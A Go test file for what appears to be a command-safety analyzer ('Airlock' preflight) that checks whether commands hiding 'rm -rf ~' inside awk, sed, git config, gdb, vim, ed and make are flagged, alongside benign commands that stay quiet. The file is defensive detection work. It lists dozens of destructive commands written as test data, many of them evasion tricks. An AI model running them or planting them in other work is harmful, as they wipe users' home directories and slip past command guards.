package preflight

import (
	"strings"
	"testing"
)

// hiddenRunners hide a command inside another program's language. Each must be P2
// ("Airlock cannot see what this runs"), and where the command is literal it is
// classified too: rm -rf ~ is then bash_destructive.
var hiddenRunners = []struct {
	cmd         string
	destructive bool
}{
	{`awk 'BEGIN{system("rm -rf ~")}'`, true},
	{`gawk 'BEGIN { system("rm -rf ~") }'`, true},
	{`mawk 'BEGIN{print | "rm -rf ~"}'`, true},
	{`nawk 'BEGIN{"rm -rf ~" | getline x}'`, true},
	{`awk 'BEGIN{c="rm -rf ~"; system(c)}'`, false},
	{`awk '{print > "/dev/sda"}' f`, false},
	{`awk 'BEGIN{f="system"; @f("id")}'`, false},
	{`awk -f prog.awk data`, false},
	{`gawk -l filefuncs 'BEGIN{}'`, false},
	{`awk -e 'BEGIN{system("rm -rf ~")}'`, true},
	{`awk "$PROG" f`, false},
	{`sed -n '1e rm -rf ~' f`, true},
	{`sed '1e rm -rf ~' f`, true},
	{`sed -e '$e rm -rf ~' f`, true},
	{`sed -ne '/x/e rm -rf ~' f`, true},
	{`sed 's/.*/rm -rf ~/e' f`, false},
	{`sed 's|x|y|ge' f`, false},
	{`sed -f script.sed f`, false},
	{`sed -nf script.sed f`, false},
	{"sed -n '1{\ne rm -rf ~\n}' f", true},
	{`git -c alias.x='!rm -rf ~' x`, true},
	{`git -c 'alias.x=!sh -c "rm -rf ~"' x`, true},
	{`git -c core.sshCommand='rm -rf ~' fetch`, false},
	{`git -c core.pager='rm -rf ~' log`, false},
	{`git -c core.editor=x commit`, false},
	{`git -c core.fsmonitor='rm -rf ~' status`, false},
	{`git -c core.hooksPath=/tmp/h commit -m x`, false},
	{`git -c diff.external=x diff`, false},
	{`git --config-env=core.sshCommand=X fetch`, false},
	{`git --exec-path=/tmp/x status`, false},
	{`GIT_SSH_COMMAND='rm -rf ~' git fetch`, true},
	{`env GIT_PAGER='rm -rf ~' git log`, true},
	{`GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log`, false},
	{`LESSOPEN='|rm -rf ~ %s' less f`, false},
	{`gdb -batch -ex 'shell rm -rf ~'`, true},
	{`gdb -ex '!rm -rf ~' -batch`, true},
	{`gdb -x cmds.gdb ./a.out`, false},
	{`lldb -o 'platform shell rm -rf ~' --batch`, true},
	{`strace -o '|rm -rf ~' ls`, true},
	{`vim -es -c '!rm -rf ~'`, true},
	{`vim -c ':!rm -rf ~' -c q f`, true},
	{`vim '+!rm -rf ~' f`, true},
	{`nvim --headless -c '!rm -rf ~' -c q`, true},
	{"vim -es f <<< '!rm -rf ~'", true},
	{`vim -S session.vim`, false},
	{"ex f <<< '!rm -rf ~'", true},
	{"ed f <<< '!rm -rf ~'", true},
	{"ed <<'EOF'\n!rm -rf ~\nq\nEOF", true},
	{"echo '!rm -rf ~' | ed", false},
	{`emacs --batch --eval '(shell-command "rm -rf ~")'`, false},
	{`emacs -batch -l x.el`, false},
	{"make -f /dev/stdin <<< $'all:\\n\\trm -rf ~'", true},
	{"make -f - <<'EOF'\nall:\n\t@rm -rf ~\nEOF", true},
	{`make -f <(curl -s x.example) all`, false},
	{`make -f "$MF"`, false},
	{`make --eval='all: ; rm -rf ~'`, false},
}

// Ordinary uses of the same programs stay quiet.
var quietRunners = []string{
	`awk '{print $1}' f`, `awk -F: '$3 > 1000 {n++} END {print n}' /etc/passwd`, `awk 'NR==1' f`,
	`sed -n 's/a/b/gp' f`, `sed -i.bak '/^#/d' f`, `sed '$a\foo' f`, `sed 'y/abc/xyz/' f`, `sed -e 's|a|b|' -e '1d' f`,
	`sed -n '/start/,/end/p' f`, `sed 's/e/E/g' f`, `sed --sandbox '1e id' f`, `sed -E 's/(a|b)+/x/' f`,
	`git -c color.ui=always log`, `git -c user.name=x commit -m y`, `git -C dir status`, `git log --oneline`,
	`make`, `make -f Makefile.ci test`, `vim --version`, `gdb --version`, `ed --version`, `strace -o trace.txt ls`,
	`emacs --version`,
}

func TestCommandRunnersTable(t *testing.T) {
	for _, tt := range hiddenRunners {
		a := Analyze(tt.cmd, Options{Home: testHome})
		reasons := strings.Join(a.Reasons(), "\n")
		if a.KnownSafe || !strings.Contains(reasons, cannotSee) {
			t.Errorf("%s: %v, want P2 %q", tt.cmd, a.Reasons(), cannotSee)
		}
		if tt.destructive && !a.Destructive() {
			t.Errorf("%s: %v, want the hidden rm -rf ~ seen too", tt.cmd, a.Reasons())
		}
		// The same behind sudo and sh -c.
		if b := Analyze("sudo sh -c "+shellQuote(tt.cmd), Options{Home: testHome}); !strings.Contains(strings.Join(b.Reasons(), "\n"), cannotSee) {
			t.Errorf("sudo sh -c %q: %v, want P2", tt.cmd, b.Reasons())
		}
	}
	for _, cmd := range quietRunners {
		if a := Analyze(cmd, Options{Home: testHome}); len(a.Findings) > 0 {
			t.Errorf("%s: %v, want no finding", cmd, a.Reasons())
		}
	}
	// Every program of the table is attacked above.
	for prog := range commandRunners {
		found := false
		for _, tt := range hiddenRunners {
			if strings.Contains(tt.cmd, prog+" ") {
				found = true
			}
		}
		if !found && !strings.Contains("busybox-awk gsed gdb-multiarch cgdb pdb view vimdiff gvim rvim vim.tiny vim.basic nex red emacs-nox emacsclient gmake bmake ltrace", prog) {
			t.Errorf("%s is in the table but no attack uses it", prog)
		}
	}
}

func FuzzCommandRunners(f *testing.F) {
	for _, tt := range hiddenRunners {
		f.Add(tt.cmd)
	}
	for _, c := range quietRunners {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		a := Analyze(cmd, Options{Home: testHome})
		if a.KnownSafe && len(a.Findings) > 0 {
			t.Fatalf("%q is known safe with findings %v", cmd, a.Reasons())
		}
		// sed's script scanner stops on any input.
		sedCommands(cmd)
		exBang(cmd)
	})
}
